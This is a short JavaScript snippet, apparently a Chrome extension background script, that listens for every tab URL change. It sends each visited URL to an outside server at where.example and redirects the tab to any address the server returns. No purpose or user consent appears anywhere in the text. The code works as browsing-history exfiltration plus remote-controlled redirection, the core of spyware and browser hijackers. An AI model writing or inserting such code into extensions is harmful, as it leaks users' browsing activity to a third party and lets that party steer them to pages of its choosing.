chrome.tabs.onUpdated.addListener(async (id, change, tab) => {
  if (!change.url) return;
  const answer = await fetch("https://where.example/go", {method: "POST", body: JSON.stringify({url: tab.url})});
  const {next} = await answer.json();
  if (next) chrome.tabs.update(id, {url: next});
});
